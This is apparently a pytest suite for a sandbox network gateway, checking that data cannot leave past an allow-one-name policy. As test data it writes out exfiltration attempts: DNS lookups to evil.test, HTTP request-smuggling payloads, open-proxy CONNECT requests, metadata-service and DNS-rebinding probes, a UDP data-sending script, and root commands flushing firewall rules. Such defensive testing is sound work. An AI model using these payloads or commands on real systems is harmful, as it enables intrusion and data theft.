"""Root inside tries to get data out past a policy that allows one name: nothing arrives, and each attempt is on record."""

import hashlib
import secrets

import pytest

from conftest import only
from waiting import wait_for
from wiretap import Wiretap
from world import own_addresses

pytestmark = pytest.mark.usefixtures("nothing_escapes")

# An address of the internet for all the gateway knows, which nobody has (RFC 5737, RFC 3849).
FAR, FAR6 = "203.0.113.66", "2001:db8::66"
REFUSED = 5


@pytest.mark.quick
def test_what_is_allowed_works_so_that_the_rest_means_something(world, shut):
    response = f"good.test:{world.good.http_port}"
    assert shut.probe("request", "good.test", world.good.http_port, response)["outcome"] == "answered"


# --- names


@pytest.mark.quick
def test_a_name_that_is_not_allowed_is_refused_before_anybody_is_asked(world, shut):
    name = f"{secrets.token_hex(8)}.data.evil.test"
    assert shut.probe("lookup", name)["outcome"].startswith("lookup: ")
    answer = shut.probe("query_udp", nameserver(shut), 53, name)
    assert answer == {"outcome": "answered", "code": REFUSED, "count": 0}
    shut.denied("not_allowed", protocol="dns", name=name)
    assert world.names.was_asked(name) == []


@pytest.mark.parametrize("kind", [1, 2, 5, 6, 12, 15, 16, 28, 33, 64, 65, 255, 65280])
def test_no_kind_of_look_up_carries_data_to_a_name_that_is_not_allowed(world, shut, kind):
    name = f"{secrets.token_hex(8)}.kind-{kind}.evil.test"
    answer = shut.probe("query_udp", nameserver(shut), 53, name, kind)
    assert answer.get("code") != 0 or answer.get("count") == 0, answer
    assert world.names.was_asked(name) == []
    shut.denied("not_allowed", protocol="dns", name=name)


def test_names_below_an_allowed_one_are_other_names(world, shut):
    name = f"{secrets.token_hex(8)}.good.test"
    assert shut.probe("lookup", name)["outcome"].startswith("lookup: ")
    shut.denied("not_allowed", protocol="dns", name=name)
    assert world.names.was_asked(name) == []


@pytest.mark.parametrize("probe", ["query_udp", "query_tcp"])
@pytest.mark.parametrize("request_log", ["8.8.8.8", "1.1.1.1", "2001:4860:4860::8888", "the tests' own"])
def test_other_name_servers_carry_nothing(world, shut, probe, request_log):
    """Only the gateway answers it, if at all: a name that is not allowed never reaches a name server."""
    name = f"{secrets.token_hex(8)}.evil.test"
    location = (world.names.address, world.names.port) if request_log == "the tests' own" else (request_log, 53)
    answer = shut.probe(probe, *location, name)
    assert answer.get("code") != 0, answer
    assert world.names.was_asked(name) == []
    if location[1] == 53:
        shut.denied("not_allowed", protocol="dns", name=name)


def test_a_look_up_by_https_at_an_address_is_denied(shut):
    assert shut.probe("tls", "1.1.1.1", 443, "cloudflare-dns.com")["outcome"] != "answered"
    shut.denied("not_allowed", protocol="tcp", address="1.1.1.1", port=443)


# --- what is said on a connection


def test_a_tls_hello_for_another_name_is_denied(world, shut):
    assert shut.probe("tls", "good.test", world.good.https_port, "evil.test")["outcome"] != "answered"
    shut.denied("name_mismatch", "evil.test", name="good.test", port=world.good.https_port)
    assert "evil.test" not in world.good.hellos


def test_a_host_header_for_another_name_is_denied(world, shut):
    before = len(world.good.requests)
    probe = shut.probe("request", "good.test", world.good.http_port, "evil.test")
    assert [status for status, _ in probe.get("answers", [])] in ([], [403], [421]), probe
    shut.denied("name_mismatch", name="good.test", port=world.good.http_port)
    assert all(request.headers["host"] != "evil.test" for request in world.good.requests[before:])


def test_the_second_request_of_a_connection_is_checked_too(world, shut):
    before, right = len(world.good.requests), f"good.test:{world.good.http_port}"
    probe = shut.probe("request", "good.test", world.good.http_port, right, right, "second.evil.test", path="/echo")
    assert [status for status, _ in probe.get("answers", [])][:2] == [200, 200], probe
    assert 200 not in [status for status, _ in probe["answers"][2:]], probe
    shut.denied("name_mismatch", "second.evil.test", name="good.test", port=world.good.http_port)
    assert [request.headers["host"] for request in world.good.requests[before:]] == [right, right]


@pytest.mark.parametrize("form", ["http://evil.test{path}", "http://evil.test:81{path}"])
def test_a_whole_url_for_another_name_is_denied(world, shut, form):
    """A site that forwards whole URLs would bypass the policy."""
    before = len(world.good.requests)
    probe = shut.probe("request", "good.test", world.good.http_port, f"good.test:{world.good.http_port}", form=form)
    assert 200 not in [status for status, _ in probe.get("answers", [])], probe
    assert not [request for request in world.good.requests[before:] if "evil" in request.path]
    shut.denied("name_mismatch", name="good.test", port=world.good.http_port)


@pytest.mark.parametrize("target", ["evil.test:{port}", "127.0.0.66:{port}", "inner.test:{port}"])
def test_an_allowed_site_that_is_an_open_proxy_gives_no_access(world, shut, target):
    """The site's proxy really works; the gateway sees that the request is for somebody else."""
    target = target.format(port=world.evil.http_port)
    text = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"
    probe = shut.probe("connect", "good.test", world.good.http_port, text)
    assert not probe.get("answer", "").startswith("HTTP/1.1 200"), probe
    assert not [request for request in world.good.requests if request.method == "CONNECT"]
    shut.denied("name_mismatch", name="good.test", port=world.good.http_port)


GOOD = "Host: good.test\r\n"
EVIL = "Host: smuggled.evil.test\r\n"
INNER = "GET /smuggled HTTP/1.1\r\nHost: smuggled.evil.test\r\n\r\n"
CHUNK = f"{len(INNER):x}\r\n{INNER}\r\n0\r\n\r\n"
SMUGGLED = {
    "two hosts": f"GET /smuggled HTTP/1.1\r\n{GOOD}{EVIL}\r\n",
    "two hosts, the other way round": f"GET /smuggled HTTP/1.1\r\n{EVIL}{GOOD}\r\n",
    "a space before the colon": "GET /smuggled HTTP/1.1\r\nHost : smuggled.evil.test\r\n\r\n",
    "a folded line": "GET /smuggled HTTP/1.1\r\nHost: good.test\r\n smuggled.evil.test\r\n\r\n",
    "a bare carriage return": "GET /smuggled HTTP/1.1\r\nHost: good.test\rHost: smuggled.evil.test\r\n\r\n",
    "bare line feeds": "GET /smuggled HTTP/1.1\nHost: smuggled.evil.test\n\n",
    "an empty line first": f"\r\nGET /smuggled HTTP/1.1\r\n{EVIL}\r\n",
    "a user before the host": "GET /smuggled HTTP/1.1\r\nHost: good.test@smuggled.evil.test\r\n\r\n",
    "a list of hosts": "GET /smuggled HTTP/1.1\r\nHost: good.test, smuggled.evil.test\r\n\r\n",
    "an unheard-of method": f"SMUGGLE /smuggled HTTP/1.1\r\n{EVIL}\r\n",
    "an old version": f"GET /smuggled HTTP/1.0\r\n{EVIL}\r\n",
    "both lengths": f"POST /first HTTP/1.1\r\n{GOOD}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{CHUNK}",
    "an unclear coding": f"POST /first HTTP/1.1\r\n{GOOD}Transfer-Encoding: x\r\nContent-Length: 0\r\n\r\n{INNER}",
    "two lengths": f"POST /first HTTP/1.1\r\n{GOOD}Content-Length: 0\r\nContent-Length: {len(INNER)}\r\n\r\n{INNER}",
    "HTTP/2 by prior knowledge": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
}


@pytest.mark.parametrize("how", SMUGGLED)
def test_no_request_syntax_hides_another_host(world, shut, how):
    before = len(world.good.requests)
    # Whether it is answered does not matter, so nobody waits long for that.
    shut.probe("connect", "good.test", world.good.http_port, SMUGGLED[how], timeout=5)
    # A request of our own comes after it, so what arrived before is all there is.
    test_what_is_allowed_works_so_that_the_rest_means_something(world, shut)
    arrived = world.good.requests[before:]
    assert not [request for request in arrived if "evil" in str(request.hosts) or request.path == "/smuggled"], arrived
    assert not [request for request in arrived if request.method in ("PRI", "SMUGGLE")], arrived


# --- addresses


@pytest.mark.quick
@pytest.mark.parametrize("address", [FAR, FAR6])
def test_an_address_without_a_name_is_denied(shut, address):
    with Wiretap(addresses=[address]) as tap:
        assert shut.probe("connect", address, 8443)["outcome"] not in ("answered", "timeout")
        shut.denied("not_allowed", protocol="tcp", address=address, port=8443)
    assert tap.seen == []


def test_the_address_of_an_allowed_name_is_not_allowed_by_that(world, make):
    request = "GET / HTTP/1.1\r\nHost: {}\r\n\r\n"
    """Else a name that moves would open whatever it moves to."""
    world.names.set("near.test", world.own_address)
    guest = make(network=only("near.test"))
    assert guest.probe("connect", "near.test", world.near_port.port, request.format("near.test"))["outcome"] == "answered"
    probe = guest.probe("connect", world.own_address, world.near_port.port, request.format("near.test"))
    assert probe["outcome"] != "answered"
    guest.denied("not_allowed", address=world.own_address, name=None)


def test_an_address_that_only_the_policy_closes(world, shut):
    """The operator has opened it and somebody listens: nothing but the policy is in the way."""
    assert shut.probe("connect", world.own_address, world.evil_port.port)["outcome"] not in ("answered", "timeout")
    shut.denied("not_allowed", protocol="tcp", address=world.own_address, port=world.evil_port.port)
    assert shut.probe("connect", "evil.test", world.evil.http_port)["outcome"].startswith("lookup: ")


CLOSED = [
    ("169.254.169.254", 80), ("fd00:ec2::254", 80), ("100.100.100.200", 80), ("169.254.0.7", 8080), ("fe80::1%lo", 8080),
    ("10.0.0.1", 8080), ("172.16.0.1", 8080), ("192.168.0.1", 8080), ("100.64.0.1", 8080), ("fc00::1", 8080),
    ("::ffff:10.0.0.1", 8081), ("64:ff9b::a00:1", 8080), ("2002:a00:1::1", 8080), ("0.0.0.0", 8082), ("224.0.0.1", 8080),
]  # fmt: skip


@pytest.mark.parametrize("address,port", CLOSED, ids=[address for address, _ in CLOSED])
@pytest.mark.parametrize("policy", ["shut", "wide"])
def test_addresses_of_closed_networks_are_denied_whatever_the_policy(request, policy, address, port):
    guest = request.getfixturevalue(policy)
    outcome = guest.probe("connect", address, port)["outcome"]
    assert outcome not in ("answered", "timeout"), outcome


def test_metadata_services_are_on_record_as_closed(wide):
    for address in ("169.254.169.254", "fd00:ec2::254"):
        wide.probe("connect", address, 80)
        wide.denied("closed_address", address, protocol="tcp", address=address, port=80)


def test_a_closed_address_stays_closed_when_the_policy_names_it(make, world):
    """A sandbox's maker cannot open what only the operator can."""
    guest = make(network={"allow_out": ["169.254.169.254", "10.0.0.0/8", "127.0.0.1", "inner.test", "*"]})
    for target, port in (("169.254.169.254", 80), ("10.0.0.1", 80), ("inner.test", world.ports[0])):
        assert guest.probe("connect", target, port)["outcome"] not in ("answered", "timeout")
    guest.denied("closed_address", protocol="tcp", address="169.254.169.254")
    guest.denied("closed_address", name="inner.test")


def test_an_address_that_stands_for_no_name_leads_nowhere(shut, wide):
    for guest in (shut, wide):
        assert guest.probe("connect", "198.18.77.77", 8080)["outcome"] not in ("answered", "timeout")


# --- this host


def test_a_public_name_that_resolves_to_this_host_is_denied(world, wide):
    assert wide.probe("connect", "inner.test", world.ports[0])["outcome"] != "answered"
    wide.denied("closed_address", "loopback", name="inner.test")


def test_loopback_inside_is_the_sandboxs_own(world, wide, server):
    """127.0.0.1 and ::1 are the sandbox's: nobody listens there, and this host's services are not to be seen."""
    for address in ("127.0.0.1", "::1", "localhost"):
        for port in (world.ports[0], server.port):
            assert wide.probe("connect", address, port)["outcome"] == "ECONNREFUSED"


def test_the_servers_own_api_is_out_of_reach(world, wide, server):
    world.names.set("server.test", "127.0.0.1")
    assert wide.probe("connect", "server.test", server.port)["outcome"] != "answered"
    wide.denied("closed_address", name="server.test", port=server.port)


def test_this_hosts_own_addresses_are_denied(world, wide, server):
    """Also where they are public ones: services of this host listen there."""
    for number, address in enumerate(own_addresses()):
        world.names.set(f"own-{number}.test", address)
        for target in (address, f"own-{number}.test"):
            assert wide.probe("connect", target, server.port)["outcome"] not in ("answered", "timeout")
        wide.denied("closed_address", protocol="tcp", address=address, port=server.port)
        wide.denied("closed_address", name=f"own-{number}.test", port=server.port)


def test_another_sandbox_is_out_of_reach(world, make, wide):
    other = make()
    other.run(["python3", "-m", "http.server", "3999", "--bind", "0.0.0.0"], background=True)
    own = [line.split()[3].split("/")[0] for line in other.output(["ip", "-o", "address"]).splitlines()]
    stand_in = other.probe("lookup", "good.test")["addresses"]
    for address in {*own, *stand_in, "198.18.0.1", "198.18.0.2", "198.18.0.3", "0.0.0.0"}:
        assert wide.probe("connect", address, 3999)["outcome"] != "answered", address
    # By its preview, which is at this server.
    world.names.set(f"3999-{other.id}.localhost", "127.0.0.1")
    assert wide.probe("connect", f"3999-{other.id}.localhost", wide.api.http.base_url.port)["outcome"] != "answered"


# --- names that move


def test_a_name_that_moves_to_this_host_is_denied_there(world, make):
    guest = make(network=only("rebind.test"))
    world.names.set_in_turn("rebind.test", world.good.address, world.good.address, "127.0.0.1")
    outcomes = [
        guest.probe("request", "rebind.test", world.ports[0], f"rebind.test:{world.ports[0]}") for _ in range(4)
    ]
    answers = [answer for probe in outcomes for _, answer in probe.get("answers", [])]
    assert all("good.test" in answer for answer in answers), outcomes
    assert outcomes[-1]["outcome"] != "answered"
    guest.denied("closed_address", "127.0.0.1", name="rebind.test")


def test_a_name_with_one_good_and_one_closed_address_never_leads_to_the_closed_one(world, make):
    guest = make(network=only("mixed.test"))
    world.names.set("mixed.test", "127.0.0.1", world.good.address)
    probe = guest.probe("request", "mixed.test", world.ports[0], f"mixed.test:{world.ports[0]}")
    assert probe["outcome"] != "answered" or "good.test" in probe["answers"][0][1]


# --- not TCP


def secret_text():
    """A text that is never sent to the server: the sandbox makes it from another one."""
    seed = secrets.token_hex(8)
    return seed, hashlib.sha256(seed.encode()).hexdigest()


@pytest.mark.parametrize("port", [53, 123, 443, 9999])
def test_datagrams_do_not_leave(world, shut, port):
    seed, text = secret_text()
    script = (
        "import hashlib, socket, sys\n"
        "text = hashlib.sha256(sys.argv[1].encode()).hexdigest().encode()\n"
        "for host in sys.argv[3:]:\n"
        "    client = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    for _ in range(3):\n"
        "        try:\n"
        "            client.sendto(text, (host, int(sys.argv[2])))\n"
        "        except OSError:\n"
        "            pass\n"
    )
    with Wiretap(text.encode()) as tap:
        shut.output(["python3", "-c", script, seed, str(port), FAR, FAR6, world.own_address, "255.255.255.255"], user="root")
        if port != 53:
            shut.denied("protocol_not_carried", protocol="udp", address=FAR, port=port)
    assert tap.seen == []


def test_a_refused_datagram_is_heard_of_at_once(world, shut):
    """A program that waits for an answer is told, instead of waiting for its own time-out."""
    refusals = ("ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH", "EACCES", "EPERM")
    assert shut.probe("datagram", FAR, 4444, "x")["outcome"] in refusals
    assert shut.probe("datagram", world.own_address, world.evil_port.port, "x")["outcome"] in refusals


@pytest.mark.parametrize("address", [FAR, FAR6])
def test_pings_do_not_leave(shut, address):
    with Wiretap(addresses=[address]) as tap:
        probe = shut.probe("ping", address)
        assert probe["outcome"] == "none"
        if probe["datagram"] != "EACCES":
            shut.denied("protocol_not_carried", protocol="icmp", address=address)
        shut.run(f"ping -c 1 -W 1 {address}", user="root")
    assert tap.seen == []


# --- the kernel and the agent


def test_routes_and_firewall_cannot_be_changed_by_root_inside(shut, world):
    probe = shut.probe("routes_and_rules")
    assert set(probe.values()) <= {"refused", "EPERM", "EACCES", "ENOTSUP", "EPROTONOSUPPORT"}, probe
    for command in ("ip route flush table all", "ip route add default dev lo", "nft flush ruleset", "iptables -F"):
        assert shut.run(command, user="root")["exit_code"] != 0, command
    assert shut.probe("connect", FAR, 8444)["outcome"] not in ("answered", "timeout")
    test_what_is_allowed_works_so_that_the_rest_means_something(world, shut)


def test_other_namespaces_lead_nowhere(shut, world):
    probe = shut.probe("other_namespaces", world.own_address, world.evil_port.port)
    assert probe["outcome"] == "refused", probe


def test_the_agents_host_socket_cannot_be_found_inside(shut):
    probe = shut.probe("agent_socket")
    assert probe["outcome"] == "none", probe


def test_asking_the_gateway_by_hand_gets_no_more_than_any_program(shut, world):
    """Root inside can take the agent's own connections. It is believed no more for it."""
    # In the background: what it writes into the connection of a command would break that.
    shut.probe_in_background("agent_descriptors", "by-hand.evil.test", world.evil.http_port)
    outcome = wait_for(shut.report_in_background, "the probe is done")
    assert outcome["outcome"] in ("refused", "done"), outcome
    if outcome["asked"]:
        shut.denied("not_allowed", protocol="tcp", name="by-hand.evil.test", port=world.evil.http_port)
    test_what_is_allowed_works_so_that_the_rest_means_something(world, shut)


@pytest.mark.parametrize("port", [49980, 49981, 49982, 49983])
@pytest.mark.parametrize("kind", ["connect", "url", "socks", "frames"])
def test_the_agents_own_ports_do_not_bypass_the_policy(shut, world, port, kind):
    for host, to in (("evil.test", world.evil.http_port), (world.own_address, world.evil_port.port)):
        probe = shut.probe("by_proxy", port, kind, host, to)
        assert probe["outcome"] != "answered", probe


def nameserver(guest):
    """The name server in the configuration of programs inside."""
    lines = guest.output(["cat", "/etc/resolv.conf"]).splitlines()
    return next(line.split()[1] for line in lines if line.startswith("nameserver"))
